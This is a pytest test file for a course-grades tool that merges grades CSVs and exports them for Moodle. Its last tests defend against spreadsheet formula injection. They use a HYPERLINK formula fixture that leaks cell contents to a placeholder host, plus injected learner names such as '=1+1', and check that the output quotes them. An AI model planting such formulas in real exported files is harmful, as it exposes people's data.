"""A class's grades across files (course_admin.grades): merge from machines, export for Moodle.

merge: one lesson's grades.csv from two machines become one; a learner graded differently on two
machines, or files of two lessons, are a one-line error with nothing written. lms: a roster that
misses a graded learner (written without them, named, exit 3) and a learner who never submitted (0),
from the folder grader's CSVs and from nbgrader's own export (late penalty included), any mix.
"""

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from course_admin import grades

ROOT = Path(__file__).resolve().parents[2]
HEADER = ["student", "lesson", "score", "max_score", "l01_a_test", "l01_b_test", "reasons",
          "review"]
MACHINE1 = [["ada", "01-circuits", "10", "10", "4", "6", "", ""],
            ["bob", "01-circuits", "4", "10", "4", "0", "l01_b_test: x instead of 2x", ""]]
MACHINE2 = [["cy", "01-circuits", "0", "10", "0", "0",
             "l01_a_test: not attempted | l01_b_test: not attempted", ""],
            # graded on both machines, the same row
            ["ada", "01-circuits", "10", "10", "4", "6", "", ""]]
ROSTER = [["id", "first_name", "last_name", "email"], ["ada", "Ada", "Lovelace", "ada@example.org"],
          # no cy; dee never submitted
          ["bob", "Bob", "Smith", "bob@example.org"], ["dee", "Dee", "Jones", "dee@example.org"]]


def write(path: Path, rows) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    return path


def read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def run(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "course_admin.grades", *map(str, args)],
                          capture_output=True, text=True, cwd=cwd)


def test_merge_of_two_machines_is_one_grades_csv(tmp_path):
    m1, m2 = (write(tmp_path / "m1" / "grades.csv", [HEADER, *MACHINE1]),
              write(tmp_path / "m2" / "grades.csv", [HEADER, *MACHINE2]))
    done = run("merge", m1, m2, "--out", tmp_path / "grades.csv")
    assert done.returncode == 0 and done.stderr == "", done.stderr
    assert read(tmp_path / "grades.csv") == [HEADER, MACHINE1[0], MACHINE1[1], MACHINE2[0]]


@pytest.mark.parametrize("other, words", [
    ([HEADER, ["bob", "01-circuits", "6", "10", "4", "2", "", ""]], "was graded differently"),
    ([HEADER[:4] + ["l02_x_test", "reasons", "review"],
      ["cy", "02-local-gradients", "1", "3", "1", "", ""]], "other columns"),
    ([HEADER, ["cy", "02-local-gradients", "0", "10", "0", "0", "", ""]], "several lessons"),
    ([["name", "points"], ["cy", "3"]], "is not a grades.csv"),
    ([HEADER, ["cy", "01-circuits", "0"]], "fields"),
])
def test_merge_refuses_what_it_cannot_merge_in_one_line_and_writes_nothing(tmp_path, other, words):
    m1, m2 = write(tmp_path / "m1.csv", [HEADER, *MACHINE1]), write(tmp_path / "m2.csv", other)
    out = write(tmp_path / "grades.csv", [["what", "was", "there"]])
    done = run("merge", m1, m2, "--out", out)
    assert done.returncode == grades.EXIT_BAD_INPUT and done.stdout == ""
    assert (words in done.stderr and len(done.stderr.strip().splitlines()) == 1
            and "Traceback" not in done.stderr)
    assert read(out) == [["what", "was", "there"]], "a refused merge leaves the old file as it was"


def nbgrader_export(tmp_path) -> Path:
    """nbgrader's own export (nbgrader.plugins.export, as `nbgrader export` writes it) of a
    gradebook with lesson 02 and the roster's learners, then two submissions' scores, one of them
    late, filled in."""
    from nbgrader.api import Gradebook
    from nbgrader.plugins.export import CsvExportPlugin
    exported = tmp_path / "nbgrader-grades.csv"
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db") as gb:
        gb.add_assignment("02-local-gradients", duedate="2026-12-01 17:00:00 UTC")
        for sid, first, last, email in ROSTER[1:]:
            gb.add_student(sid, first_name=first, last_name=last, email=email)
        plugin = CsvExportPlugin()
        plugin.to = str(exported)
        plugin.export(gb)
    rows = read(exported)
    assert rows[0] == grades.NBGRADER_EXPORT, "nbgrader's export columns changed"
    # raw, late penalty, score
    filled = {"ada": ("12.0", "2.0", "10.0"), "bob": ("5.0", "0.0", "5.0")}
    for r in rows[1:]:
        r[7:11] = [*filled.get(r[3], ("0.0", "0.0", "0.0")), "12.0"]
    return write(exported, rows)


def test_lms_export_joins_the_roster_with_every_lesson(tmp_path):
    m1, m2 = (write(tmp_path / "m1.csv", [HEADER, *MACHINE1]),
              write(tmp_path / "m2.csv", [HEADER, *MACHINE2]))
    roster = write(tmp_path / "roster.csv", ROSTER)
    out = tmp_path / "moodle.csv"
    done = run("lms", m1, m2, nbgrader_export(tmp_path), "--roster", roster, "--out", out)
    assert done.returncode == grades.EXIT_NOT_IN_ROSTER, done.stderr
    assert "graded but not in the roster" in done.stderr and "cy" in done.stderr, \
        "a learner left out is named"
    assert read(out) == [
        ["ID number", "First name", "Last name", "Email address", "01-circuits (10 points)",
         "02-local-gradients (12 points)", "Total (22 points)"],
        # nbgrader's score: raw 12 less 2 late
        ["ada", "Ada", "Lovelace", "ada@example.org", "10", "10", "20"],
        ["bob", "Bob", "Smith", "bob@example.org", "4", "5", "9"],
        # never submitted: 0, as nbgrader exports
        ["dee", "Dee", "Jones", "dee@example.org", "0", "0", "0"]]


def test_lms_export_with_every_learner_in_the_roster_exits_0(tmp_path):
    roster = write(tmp_path / "roster.csv", ROSTER[:3])
    done = run("lms", write(tmp_path / "m1.csv", [HEADER, *MACHINE1]), "--roster", roster, "--out",
               tmp_path / "o.csv")
    assert done.returncode == 0 and done.stderr == "", done.stderr
    assert [r[-1] for r in read(tmp_path / "o.csv")] == ["Total (10 points)", "10", "4"]


@pytest.mark.parametrize("roster, files, words", [
    ([["id", "first_name", "email"], ["ada", "Ada", "a@x"]], "ok", "has no column last_name"),
    ([ROSTER[0], ROSTER[1], ROSTER[1]], "ok", "repeated id"),
    (ROSTER, "bad score", "not a number"),
    (ROSTER, "two maxima", "out of"),
])
def test_lms_export_refuses_bad_input_in_one_line(tmp_path, roster, files, words):
    rows = {"ok": [HEADER, *MACHINE1],
            "bad score": [HEADER, ["ada", "01-circuits", "ten", "10", "4", "6", "", ""]],
            "two maxima": [HEADER, *MACHINE1]}[files]
    paths = [write(tmp_path / "a.csv", rows)]
    if files == "two maxima":
        paths.append(write(tmp_path / "b.csv",
                           [HEADER, ["cy", "01-circuits", "1", "12", "1", "0", "", ""]]))
    done = run("lms", *paths, "--roster", write(tmp_path / "roster.csv", roster), "--out",
               tmp_path / "o.csv")
    assert done.returncode == grades.EXIT_BAD_INPUT and words in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and not (tmp_path / "o.csv").exists()


def test_bad_invocations_are_one_line_errors(tmp_path):
    for args in ([], ["lms", "x.csv"], ["merge", "--out", "o.csv"], ["export", "x"],
                 ["merge", tmp_path / "missing.csv", "--out", "o.csv"]):
        done = run(*args, cwd=tmp_path)
        assert done.returncode == grades.EXIT_BAD_INPUT, (args, done.stderr)
        assert len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr, \
            (args, done.stderr)


def test_course_sh_runs_it_from_the_callers_folder(tmp_path):
    write(tmp_path / "m1.csv", [HEADER, *MACHINE1])
    done = subprocess.run(["bash", str(ROOT / "course.sh"), "grades", "merge", "m1.csv", "--out",
                           "merged.csv"],
                          cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert read(tmp_path / "merged.csv") == [HEADER, *MACHINE1]


def test_written_answers_of_the_folder_grader_are_named_as_left_out(tmp_path):
    """The folder grader's grades.csv has a column per written answer (graded by hand, outside score
    and max_score): merge keeps it, and lms says that the lesson's written points are not in its
    totals."""
    header = [*HEADER, "l01_why_dx (2 points, written: grade by hand)"]
    m1 = write(tmp_path / "m1.csv", [header, [*MACHINE1[0], "because z"]])
    m2 = write(tmp_path / "m2.csv", [header, [*MACHINE2[0], "YOUR ANSWER HERE"]])
    assert run("merge", m1, m2, "--out", tmp_path / "grades.csv").returncode == 0
    assert read(tmp_path / "grades.csv") == [header, [*MACHINE1[0], "because z"],
                                             [*MACHINE2[0], "YOUR ANSWER HERE"]]
    roster = write(tmp_path / "roster.csv",
                   [ROSTER[0], ROSTER[1], ["cy", "Cy", "Young", "cy@example.org"]])
    done = run("lms", "--roster", roster, "--out", tmp_path / "moodle.csv", tmp_path / "grades.csv")
    assert done.returncode == 0, done.stderr
    assert ("01-circuits's written answers (2 points) are not in these scores" in done.stderr
            and "by hand" in done.stderr)
    assert read(tmp_path / "moodle.csv")[0][4:] == ["01-circuits (10 points)", "Total (10 points)"]


# ---------------------------------------------------------------------------------------------
# No cell of a CSV the course writes is a formula (OWASP: = + - @ tab CR first get a quote)

FORMULA = '=HYPERLINK("http://x.example/?leak="&A3&B3,"see")'


def is_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not grades.reports._NUMBER.match(cell)


def test_merge_quotes_formulas_reads_back_what_it_wrote_and_matches_learners(tmp_path):
    """A learner named =1+1 (a submission file =1+1.ipynb) and a written answer that is a formula:
    the merged file quotes them; merging it again (with the machines' files, one of them written
    before the rule) quotes nothing twice and finds the same learners."""
    header = [*HEADER, "l01_why_dx (2 points, written: grade by hand)"]
    evil = ["=1+1", "01-circuits", "4", "10", "4", "0", "l01_b_test: -inf instead of 2", "@review",
            FORMULA]
    quoted = ["'=1+1", "01-circuits", "4", "10", "4", "0", "l01_b_test: -inf instead of 2",
              "'@review", "'" + FORMULA]
    m1 = write(tmp_path / "m1.csv", [header, [*MACHINE1[0], "-1.5"], quoted])
    # the same learner, written before the rule: not quoted
    m2 = write(tmp_path / "m2.csv", [header, evil])
    done = run("merge", m1, m2, "--out", tmp_path / "grades.csv")
    assert done.returncode == 0, done.stderr
    merged = read(tmp_path / "grades.csv")
    assert merged == [header, quoted, [*MACHINE1[0], "-1.5"]], \
        "one row per learner, formulas quoted, numbers kept"
    assert not [c for r in merged for c in r if is_formula(c)]
    assert run("merge", tmp_path / "grades.csv", m1, "--out",
               tmp_path / "again.csv").returncode == 0
    assert read(tmp_path / "again.csv") == merged, \
        "merging a merged file changes nothing: no cell is quoted twice"


def test_lms_file_has_no_formula_whatever_the_roster_or_nbgraders_export_hold(tmp_path):
    """The roster's names and e-mails and nbgrader's export are written by others; nbgrader's export
    does not quote formulas (checked here), and the LMS file quotes every one; scores stay numbers;
    a learner is matched across the files whether their id came quoted or not."""
    from nbgrader.api import Gradebook
    from nbgrader.plugins.export import CsvExportPlugin
    exported = tmp_path / "nbgrader-grades.csv"
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db") as gb:
        gb.add_assignment("02-local-gradients")
        gb.add_student("=1+1", first_name="@eve", last_name="+cmd", email="-eve@example.org")
        plugin = CsvExportPlugin()
        plugin.to = str(exported)
        plugin.export(gb)
    assert read(exported)[1][3:7] == ["=1+1", "+cmd", "@eve", "-eve@example.org"], \
        "nbgrader's export writes formulas as they are (so lms must quote them)"
    folder = write(tmp_path / "m1.csv",
                   [HEADER, ["'=1+1", "01-circuits", "4", "10", "4", "0", "", ""]])
    roster = write(tmp_path / "roster.csv",
                   [ROSTER[0], ["=1+1", "@eve", "+cmd", "-eve@example.org"]])
    done = run("lms", folder, exported, "--roster", roster, "--out", tmp_path / "moodle.csv")
    assert done.returncode == 0, done.stderr
    out = read(tmp_path / "moodle.csv")
    assert out[1] == ["'=1+1", "'@eve", "'+cmd", "'-eve@example.org", "4", "0", "4"]
    assert not [c for r in out for c in r if is_formula(c)]
